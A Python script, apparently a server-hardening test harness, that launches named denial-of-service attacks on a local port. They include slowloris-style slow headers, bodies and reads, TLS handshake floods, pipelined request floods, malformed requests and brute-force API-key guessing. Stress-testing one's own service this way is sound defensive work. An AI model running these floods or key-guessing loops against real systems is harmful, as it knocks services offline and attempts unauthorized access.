"""Attacks on a server's port, each a process of its own: attacks.py NAME PORT SECONDS TOKEN.

Each prints one line when it is under way ("under way: N connections"), goes on for SECONDS (or to
the end of its input) and ends.
"""
import contextlib
import errno
import os
import resource
import selectors
import socket
import ssl
import struct
import sys
import time

GET = b"GET /livez HTTP/1.1\r\nHost: x\r\n\r\n"
RESET = struct.pack("ii", 1, 0)  # SO_LINGER: closing resets


def connect(port, receive_bytes=None):
    raw = socket.socket()
    if receive_bytes:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    raw.settimeout(5)
    raw.connect(("127.0.0.1", port))
    return raw


def many(port, count, first=b"", **more):
    """So many connections, each of which sent `first`. What is refused is left out."""
    every = []
    for _ in range(count):
        try:
            raw = connect(port, **more)
            raw.sendall(first)
        except OSError as fault:
            if fault.errno in (errno.EMFILE, errno.ENFILE):
                break
            continue
        raw.setblocking(False)
        every.append(raw)
    print("under way: %d connections" % len(every), flush=True)
    return every


def hold(every, end, again=b"", pause=1.0):
    """Keeps them until then, sending `again` now and then; those that the server ends are left."""
    while time.monotonic() < end:
        time.sleep(min(pause, max(0.0, end - time.monotonic())))
        if not again:
            continue
        for raw in every:
            with contextlib.suppress(OSError):
                raw.send(again)
    for raw in every:
        raw.close()


def idle(port, end, _):
    hold(many(port, 9900), end)


def half_tls(port, end, _):
    # The first bytes of a TLS 1.2 hello, as RFC 8446 section 4.1.2 begins it.
    hold(many(port, 1000, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x41" * 60), end)


# --- On a port that speaks TLS: their names begin with tls_ ---

def client_hello():
    """A whole first flight, as OpenSSL sends it."""
    inward, outward = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = untrusting().wrap_bio(inward, outward, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        session.do_handshake()
    return outward.read()


def untrusting():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def tls_half(port, end, _):
    """The server has signed and sent its flight, and waits for ours."""
    hold(many(port, 1000, client_hello()), end)


def tls_hellos(port, end, _):
    """First flights as fast as they are taken: each costs the server a signature, us nothing."""
    print("under way: a flood", flush=True)
    hello, count = client_hello(), 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(port) as raw:
            raw.sendall(hello)
            raw.recv(1)
        count += 1
    print("%d handshakes begun" % count, flush=True)


def tls_handshakes(port, end, _):
    """Whole handshakes, one request each."""
    print("under way: a flood", flush=True)
    context, count = untrusting(), 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(port) as raw:
            with context.wrap_socket(raw, server_hostname="localhost") as session:
                session.sendall(GET)
                session.recv(4096)
        count += 1
    print("%d handshakes" % count, flush=True)


def tls_slow_records(port, end, _):
    """A request of which the last byte of a record never comes."""
    def first_piece(raw):
        inward, outward = ssl.MemoryBIO(), ssl.MemoryBIO()
        session = untrusting().wrap_bio(inward, outward, server_hostname="localhost")
        while True:
            try:
                session.do_handshake()
                break
            except ssl.SSLWantReadError:
                raw.sendall(outward.read())
                inward.write(raw.recv(65536))
        session.write(GET)
        return outward.read()[:-1]
    every = []
    for _ in range(500):
        with contextlib.suppress(OSError):
            raw = connect(port)
            raw.sendall(first_piece(raw))
            every.append(raw)
    print("under way: %d connections" % len(every), flush=True)
    hold(every, end)


def slow_header(port, end, _):
    hold(many(port, 1000, b"GET /livez HTTP/1.1\r\nHost: x\r\n"), end, b"A: b\r\n")


def slow_body(port, end, token):
    head = ("POST /api/v1/projects/none/secrets HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"
            "Content-Length: 65536\r\n\r\n" % token).encode()
    hold(many(port, 1000, head + b" " * 65000), end, b" ")


def slow_read(port, end, token):
    """Many answers asked for at once, and none of them read."""
    ask = ("GET /api/v1/api-keys HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n"
           % token).encode()
    hold(many(port, 500, ask * 200, receive_bytes=4096), end)


def connect_and_close(port, end, _):
    print("under way: a flood", flush=True)
    count = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            raw = connect(port)
            if count % 3 == 0:
                raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            if count % 2 == 0:
                raw.sendall(GET[:count % len(GET)])
            raw.close()
        count += 1
    print("%d connections" % count, flush=True)


def pipelined(port, end, _):
    """Requests as fast as they are taken on a few connections, the answers read."""
    print("under way: a flood", flush=True)
    chosen, sent = selectors.DefaultSelector(), 0
    for _ in range(8):
        raw = connect(port)
        raw.setblocking(False)
        chosen.register(raw, selectors.EVENT_READ | selectors.EVENT_WRITE)
    while time.monotonic() < end:
        for key, events in chosen.select(0.1):
            with contextlib.suppress(BlockingIOError):
                if events & selectors.EVENT_READ:
                    key.fileobj.recv(1 << 20)
                if events & selectors.EVENT_WRITE:
                    sent += key.fileobj.send(GET * 500)
    print("%d requests" % (sent // len(GET)), flush=True)


def pipelined_unread(port, end, _):
    """The same, but the answers are never read."""
    hold(many(port, 64, GET * 100, receive_bytes=4096), end, GET * 2000, pause=0.05)


def rubbish(port, end, _):
    """One refused request after the other, each on a connection of its own."""
    print("under way: a flood", flush=True)
    every = [b"\0" * 100 + b"\r\n\r\n", b"A" * 9000,
             b"GET / HTTP/1.1\r\nHost: x\r\nHost: x\r\n\r\n",
             b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"]
    count = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(port) as raw:
            raw.sendall(every[count % len(every)])
            raw.recv(4096)
        count += 1
    print("%d requests" % count, flush=True)


def false_keys(port, end, _):
    """Guesses of an API key on a connection that is kept."""
    print("under way: a flood", flush=True)
    raw, count = connect(port), 0
    while time.monotonic() < end:
        key = b"tac_%036d" % count
        raw.sendall(b"GET /api/v1/user/me HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + key +
                    b"\r\n\r\n")
        raw.recv(65536)
        count += 1
    print("%d requests" % count, flush=True)


ATTACKS = {one.__name__: one for one in (
    idle, half_tls, slow_header, slow_body, slow_read, connect_and_close, pipelined,
    pipelined_unread, rubbish, false_keys, tls_half, tls_hellos, tls_handshakes,
    tls_slow_records)}


def main():
    name, port, seconds, token = sys.argv[1:]
    os.nice(10)
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    ATTACKS[name](int(port), time.monotonic() + float(seconds), token)


if __name__ == "__main__":
    main()
